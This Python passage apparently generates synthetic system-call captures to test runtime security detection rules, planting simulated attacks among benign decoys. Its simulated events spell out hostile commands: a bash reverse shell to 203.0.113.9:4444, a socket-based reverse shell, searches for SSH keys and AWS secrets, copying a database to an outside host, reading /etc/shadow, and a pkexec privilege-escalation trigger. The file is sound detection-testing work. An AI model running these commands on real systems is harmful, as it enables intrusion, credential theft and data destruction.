started("Search Private Keys or Passwords", "search for text of keys", "shell", "grep", "-r", "BEGIN OPENSSH PRIVATE KEY", "/home")
started("Find AWS Credentials", "search for cloud credentials", "app", "grep", "-ri", "aws_secret_access_key", "/")
started("Remove Bulk Data from Disk", "files shredded", "shell", "shred", "-u", "ledger.db")
started("Debugfs Launched in Privileged Container", "debugfs in a privileged container", "agent", "debugfs", "-w", "/dev/vda1", path="/usr/sbin/")
started("Mount Launched in Privileged Container", "mount in a privileged container", "agent", "mount", "/dev/vda1", "/mnt")
started("Launch Package Management Process in Container", "package installed in a container", "app_root", "apt-get", "install", "-y", "nmap")
started("Network Tool Executed During NPM Package Install", "download by the installation of a package", "npm", "curl", "-O", "https://example.org/x")
started("Launch Suspicious Network Tool in Container", "network scan in a container", "app", "nmap", "10.0.0.0/24")
started("Launch Suspicious Network Tool on Host", "network scan on the host", "shell", "nmap", "10.0.0.0/24")
started("Launch Remote File Copy Tools in Container", "files sent from a container", "app", "scp", "db.sql", "x@203.0.113.9:")
started("Launch Ingress Remote File Copy Tools in Container", "download in a container", "app", "wget", "https://example.org/x")
started("Kubernetes Client Tool Launched in Container", "cluster client in a container", "app", "kubectl", "get", "secrets")
started("Decoding Payload in Container", "payload decoded in a container", "app", "base64", "-d", "payload")
started("User mgmt binaries", "account changed", "shell", "usermod", "-aG", "sudo", "ana", path="/usr/sbin/")
started("Schedule Cron Jobs", "crontab edited", "user", "crontab", "-e")
started("Basic Interactive Reconnaissance", "person looks around", "user", "whoami")
started("Program run with disallowed http proxy env", "download through a proxy", "user", "curl", "https://example.org", env=["PATH=/usr/bin", "https_proxy=http://203.0.113.9:3128"])
started("Potential Local Privilege Escalation via Environment Variables Misuse", "tunables of the C library set", "user", "tool",
        env=["PATH=/usr/bin", "GLIBC_TUNABLES=glibc.malloc.mxfast=AAAA"])
started("System user interactive", "service account used at a terminal", "shell", "ls", "-la", uid=33)


@act("Fileless execution via memfd_create")
def _memfd(h):
    """program executed from memory"""
    p = h.shell.spawn("stage1", "/usr/bin/stage1", ["stage1"])
    p.put(MEMFD, i64(3), text("kworker"), u32(1))
    p.execute("3", "memfd:kworker (deleted)", ["kworker"], EXE_FROM_MEMFD, at=True)
    return p.exit()


@act("Execution of Deleted or Unnamed File")
def _unnamed(h):
    """file without a name executed"""
    return h.shell.spawn("4711", "/tmp/#4711 (deleted)", ["/proc/self/fd/3"]).exit()


@act("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)")
def _polkit(h):
    """pkexec without arguments"""
    return h.user.spawn("pkexec", "/usr/bin/pkexec", [""], uid=0).exit()


@act("Reverse Shell from Web Server")
def _web_reverse(h):
    """web server connects a shell to the network"""
    return h.php.spawn("sh", "/usr/bin/dash", ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]).exit()


@act("Web Server Spawned Shell")
def _web_shell(h):
    """shell below a web server"""
    p = h.php.spawn("convert", "/usr/bin/convert", ["convert", "a.mvg", "b.png"])
    sh = p.spawn("sh", "/usr/bin/dash", ["sh", "-c", "ls"]).exit()
    p.exit()
    return sh


@act("Shell Attached to Network Connection")
def _attached(h):
    """reverse shell on the host"""
    p = h.user.spawn("python3", "/usr/bin/python3.11", ["python3", "x.py"], tty=0)
    fd = p.connect("203.0.113.9", 4444)
    for std in (0, 1, 2):
        p.dup2(fd, std)
    return p.execute("sh", "/usr/bin/dash", ["sh"]).exit()


@act("Redirect STDOUT/STDIN to Network Connection in Container", alerts=3)
def _redirect(h):
    """standard streams redirected in a container"""
    p = h.app.spawn("python3", "/usr/bin/python3.11", ["python3", "x.py"])
    fd = p.connect("203.0.113.9", 4444)
    for std in (0, 1, 2):
        p.dup2(fd, std)
    return p.exit()


@act("Terminal shell in container")
def _terminal(h):
    """terminal shell in a container"""
    return h.shim.spawn("bash", "/usr/bin/bash", ["bash"], cgroup=docker("web"), uid=0, tty=34820).exit()


@act("Terminal shell in container")
def _renamed_terminal(h):
    """terminal shell under another name in a container"""
    return h.shim.spawn("tool", "/bin/bash", ["tool", "-i"], cgroup=pod("app"), uid=0, tty=34820).exit()


@act("Launch Privileged Container")
def _privileged(h):
    """privileged container started"""
    return h.shim.spawn("probe", "/usr/local/bin/probe", ["probe"], cgroup=docker("priv%d" % h.pid), caps=CAPS_ALL, vpid=1).exit()


@act("Launch Excessively Capable Container")
def _capable(h):
    """container with a dangerous capability started"""
    return h.shim.spawn("probe", "/usr/local/bin/probe", ["probe"], cgroup=docker("capable%d" % h.pid), caps=CAPS_CONTAINER | CAP_SYS_PTRACE, vpid=1).exit()


@act("Directory traversal monitored file read")
def _traversal(h):
    """secret asked for by directory traversal"""
    h.nginx.close(h.nginx.open("/srv/www/images/../../../etc/passwd"))
    return h.nginx


@act("Read sensitive file trusted after startup")
def _late(h):
    """server reads the password file long after its start"""
    p = h.nginx.fork()
    h.pause(6 * 10**9)
    p.read_file("/etc/shadow")
    return p.exit()


@act("Exfiltrating Artifacts via Kubernetes Control Plane")
def _copy(h):
    """files copied out of a pod"""
    p = h.shim.spawn("tar", "/bin/tar", ["tar", "cf", "-", "/app/data"], cgroup=pod("app"), uid=0, load=False)
    p.read_file("/app/data/customers.csv")
    return p.exit()


# --- decoys: the same by somebody who may. No rule may fire.
def allowed(doc, who, name, do, path="/usr/sbin/", **how):
    def f(h):
        p = getattr(h, who).spawn(name, path + name, [name], **how)
        do(p)
        return p.exit()
    simple(DECOYS, None, doc, f)


allowed("login reads the password file", "init", "sshd", lambda p: p.read_file("/etc/shadow"))
allowed("script that manages accounts reads the password file", "init", "perl", lambda p: p.execute("adduser", "/usr/bin/perl", ["/usr/bin/perl", "-T", "/usr/sbin/adduser", "eva"]).read_file("/etc/shadow"))
allowed("sudo reads its rules", "user", "sudo", lambda p: p.read_file("/etc/sudoers"), path="/usr/bin/", uid=0)
allowed("cron reads PAM's configuration", "cron", "cron", lambda p: p.read_file("/etc/pam.d/cron"))
allowed("package manager replaces a program", "init", "dpkg", lambda p: p.rename("/usr/bin/ls.dpkg-new", "/usr/bin/ls"), path="/usr/bin/")
allowed("log rotation empties a log", "cron", "logrotate", lambda p: p.write_file("/var/log/syslog", O_WRONLY | O_CREAT | O_TRUNC))
allowed("loader's cache written", "init", "ldconfig", lambda p: p.rename("/etc/ld.so.cache~", "/etc/ld.so.cache"))
allowed("debugger starts a program", "user", "gdb", lambda p: p.put(PTRACE, i64(0), b"\0" + u64(0), b"\0" + u64(0), u16(1), i64(0)), path="/usr/bin/")


@decoy
def _container_start(h):
    """ordinary container started"""
    return h.shim.spawn("redis-cli", "/usr/local/bin/redis-cli", ["redis-cli", "ping"], cgroup=docker("plain%d" % h.pid), uid=0, vpid=1).exit()


@decoy
def _script(h):
    """script as the start of a container with a terminal"""
    return h.shim.spawn("entrypoint.sh", "/usr/bin/bash", ["/bin/bash", "/entrypoint.sh"], cgroup=docker("batch%d" % h.pid), uid=0, tty=34821, vpid=1).exit()


@decoy
def _resolver(h):
    """name resolved"""
    p = h.app.spawn("worker", "/usr/local/bin/worker", ["worker"])
    p.connect("10.1.0.2", 53, datagram=True)
    return p.exit()


class Output:
    """Stamps bursts with time and CPU and writes them."""
    pack = struct.Struct("<IIHQqIHI").pack

    def __init__(self, write, rand):
        self.write, self.ts, self.count, self.chunks = write, START_NS, 0, []
        self.gaps = [rand.randrange(150, 3800) for _ in range(4093)]

    def burst(self, burst, cpu):
        pack, gaps, ts, n, add = self.pack, self.gaps, self.ts, self.count, self.chunks.append
        for tid, (code, nparams, rec_len, block_len, tail) in burst:
            ts += gaps[n % 4093]
            n += 1
            add(pack(0x216, block_len, cpu, ts, tid, rec_len, code, nparams) + tail)
        self.ts, self.count = ts, n
        if len(self.chunks) > 8000:
            self.flush()

    def flush(self):
        self.write(b"".join(self.chunks))
        self.chunks.clear()


def plant(host, out, f):
    shown = f(host)
    part = []
    for tid, rec in host.take():
        if tid is None:
            out.burst(part, 2)
            out.ts += rec
            part = []
        else:
            part.append((tid, rec))
    out.burst(part, 2)
    return {"pid": shown.pid, "args": shown.argv, "parent": shown.parent.comm}


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", help="the capture to write")
    ap.add_argument("--events", type=int, default=3_000_000, metavar="N", help="about how many events (default: 3000000)")
    ap.add_argument("--seed", type=int, default=1, metavar="S")
    ap.add_argument("--gzip", action="store_true", help="compress the capture")
    ap.add_argument("--truth", metavar="OUT.json", help="write what was planted")
    ap.add_argument("--quiet-host", action="store_true", help="plant nothing")
    a = ap.parse_args()

    host = Host(a.seed)
    # mtime 0 and no file name, so that a compressed capture is the same each time too
    raw = open(a.out, "wb", 1 << 20)
    f = gzip.GzipFile("", "wb", 6, raw, 0) if a.gzip else raw
    for b in host.preamble():
        f.write(b)
    out = Output(f.write, host.rand)

    actors = [builder(host), web_server(host), key_value_store(host), housekeeping(host)]
    order = [0] * 10 + [1] * 7 + [2] * 9 + [3] * 2
    rounds = max(1, a.events // 750_000)
    acts = [] if a.quiet_host else [("act",) + x for x in ACTS] + [("decoy", doc, None, 0, g) for doc, g in DECOYS]
    queue = [x for _ in range(rounds) for x in acts]
    step = a.events / (len(queue) + 1)
    truth = {"events": 0, "seed": a.seed, "rules": {}, "planted": {}, "decoys": {}}
    planted = 0
    while out.count < a.events or planted < len(queue):
        k = order[int(host.rand.random() * len(order))]
        out.burst(next(actors[k]), k & 1)
        while planted < len(queue) and out.count >= step * (planted + 1):
            kind, name, rule, alerts, g = queue[planted]
            planted += 1
            entry = plant(host, out, g)
            into = truth["planted" if kind == "act" else "decoys"].setdefault(name, {"rule": rule, "alerts": alerts, "count": 0, "processes": []})
            into["count"] += 1
            into["processes"].append(entry)
            if rule:
                truth["rules"][rule] = truth["rules"].get(rule, 0) + alerts
    out.flush()
    if a.gzip:
        f.close()
    raw.close()
    truth["events"] = out.count
    if a.truth:
        with open(a.truth, "w") as t:
            json.dump(truth, t, indent=1)
            t.write("\n")
    print("%d events, %d acts of %d kinds for %d rules, %d decoys" % (
        out.count, sum(x["count"] for x in truth["planted"].values()), len(truth["planted"]), len(truth["rules"]),
        sum(x["count"] for x in truth["decoys"].values())))
    return 0


if __name__ == "__main__":
    sys.exit(main())
